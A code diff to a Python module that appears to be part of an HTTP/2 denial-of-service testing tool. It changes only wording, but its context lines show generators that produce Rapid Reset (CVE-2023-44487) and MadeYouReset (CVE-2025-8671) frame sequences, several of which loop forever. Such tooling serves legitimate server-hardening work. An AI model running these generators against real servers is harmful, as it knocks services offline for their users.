@@ -1,4 +1,4 @@
-"""Streams that are opened and given up, and frames that make the victim give them up."""
+"""Streams that are opened and reset, and frames that make the victim reset them."""
 
 from __future__ import annotations
 
@@ -10,10 +10,10 @@ from .messages import GET, POST, RESPONSE
 from .wire import literal
 
 RESET, MADE_RESET = "CVE-2023-44487", "CVE-2025-8671"
-#: Streams that are open while something is done to each of them again and again.
+#: Streams that are open while each of them is attacked repeatedly.
 MANY = 5000
 MANY_STREAMS = {wire.MAX_CONCURRENT_STREAMS: 2 * MANY}
-#: Streams that are given up; where an application allows more at once, more may be given up.
+#: Streams that are reset; if an application allows more at a time, more may be reset.
 SOME = 1000
 SOME_STREAMS = {wire.MAX_CONCURRENT_STREAMS: SOME + 100}
 BOTH: tuple[Role, ...] = ("server", "client")
@@ -22,19 +22,19 @@ BOTH: tuple[Role, ...] = ("server", "client")
 # The peer resets what it has opened.
 
 
-@attack("rapid-reset", "requests, each reset at once", cve=RESET)
+@attack("rapid-reset", "requests, each reset immediately", cve=RESET)
 def rapid_reset() -> Frames:
     for stream_id in wire.odd_numbers():
         yield wire.headers(stream_id, GET, end=True) + wire.rst_stream(stream_id)
 
 
-@attack("rapid-reset-ordinary", "a browser's requests, each reset at once", cve=RESET)
+@attack("rapid-reset-ordinary", "a browser's requests, each reset immediately", cve=RESET)
 def rapid_reset_ordinary() -> Frames:
     for stream_id, request in zip(wire.odd_numbers(), messages.ordinary_requests(), strict=False):
         yield request + wire.rst_stream(stream_id)
 
 
-@attack("rapid-reset-open", "requests with content to come, each reset at once", cve=RESET)
+@attack("rapid-reset-open", "requests with content to come, each reset immediately", cve=RESET)
 def rapid_reset_open() -> Frames:
     for stream_id in wire.odd_numbers():
         yield wire.headers(stream_id, POST) + wire.rst_stream(stream_id)
@@ -62,7 +62,7 @@ def rapid_reset_batches() -> Frames:
         yield b"".join(map(wire.rst_stream, batch))
 
 
-@attack("rapid-reset-priority", "requests with priority fields, each reset at once", cve=RESET)
+@attack("rapid-reset-priority", "requests with priority fields, each reset immediately", cve=RESET)
 def rapid_reset_priority() -> Frames:
     fields = wire.priority_fields(0)
     for stream_id in wire.odd_numbers():
@@ -83,7 +83,7 @@ def responses_reset() -> Frames:
 
 @attack(
     "reset-all",
-    f"{SOME:,} requests, then as many resets, again and again",
+    f"{SOME:,} requests, then as many resets, repeatedly",
     cve=RESET,
     own_settings=SOME_STREAMS,
 )
@@ -100,7 +100,7 @@ def reset_refused() -> Frames:
         yield wire.rst_stream(stream_id, 7)
 
 
-@attack("reset-again", "RST_STREAM on one stream again and again", BOTH, streams=1)
+@attack("reset-again", "RST_STREAM on one stream repeatedly", BOTH, streams=1)
 def reset_again() -> Frames:
     while True:
         yield wire.rst_stream(1)
@@ -129,7 +129,7 @@ def identifier_gaps() -> Frames:
         yield wire.headers(stream_id, GET, end=True)
 
 
-# The peer makes the victim reset.
+# The peer makes the victim reset streams.
 
 
 @attack("made-reset-increment-zero", "requests, then WINDOW_UPDATE of 0", cve=MADE_RESET)
@@ -140,7 +140,7 @@ def increment_zero() -> Frames:
 
 @attack(
     "made-reset-increment-zero-all",
-    f"{SOME:,} requests, then WINDOW_UPDATE of 0 on all, again and again",
+    f"{SOME:,} requests, then WINDOW_UPDATE of 0 on all, repeatedly",
     cve=MADE_RESET,
     own_settings=SOME_STREAMS,
 )
@@ -222,7 +222,7 @@ def trailers_open() -> Frames:
         yield wire.headers(stream_id, POST) + wire.headers(stream_id, literal(b"a", b"b"))
 
 
-@attack("made-reset-padding", "HEADERS whose padding is longer than it", cve=MADE_RESET)
+@attack("made-reset-padding", "HEADERS with more padding than payload", cve=MADE_RESET)
 def headers_padding() -> Frames:
     for stream_id in wire.odd_numbers():
         yield wire.frame(wire.HEADERS, wire.END_HEADERS | wire.PADDED, stream_id, b"\xff" + GET)
@@ -252,7 +252,7 @@ def promised_method() -> Frames:
 
 
 def _malformed(name: str, words: str, block: bytes) -> None:
-    """Malformed requests, each of which costs at least its stream."""
+    """Malformed requests, each of which at least resets its stream."""
 
     def frames() -> Frames:
         for stream_id in wire.odd_numbers():
@@ -274,7 +274,7 @@ _malformed("empty-name", "with an empty name", GET + literal(b"", b"b"))
 _malformed("two-hosts", "with host and another :authority", GET + literal(b"host", b"example.org"))
 _malformed(
     "method",
-    "with a method that is no token",
+    "with a method that is not a token",
     literal(2, b"G E T") + messages.SCHEME_HTTPS + messages.AUTHORITY + messages.PATH_ROOT,
 )
 _malformed(
@@ -288,7 +288,7 @@ _malformed(
 
 
 def _late(name: str, words: str, piece: bytes, *, first: bytes) -> None:
-    """One frame makes the victim reset stream 1; then another kind goes on for ever."""
+    """One frame makes the victim reset stream 1; then another kind follows forever."""
 
     def frames() -> Frames:
         yield first
@@ -301,7 +301,7 @@ def _late(name: str, words: str, piece: bytes, *, first: bytes) -> None:
 for _name, _words, _piece in (
     ("data", "DATA of one octet", wire.data(1, b"x")),
     ("empty-data", "empty DATA", wire.data(1)),
-    ("padding", "DATA of padding alone", wire.data(1, pad=255)),
+    ("padding", "DATA with only padding", wire.data(1, pad=255)),
     ("window-update", "WINDOW_UPDATE", wire.window_update(1, 1)),
     ("window-update-zero", "WINDOW_UPDATE of 0", wire.window_update(1, 0)),
     ("priority", "PRIORITY", wire.priority(1)),
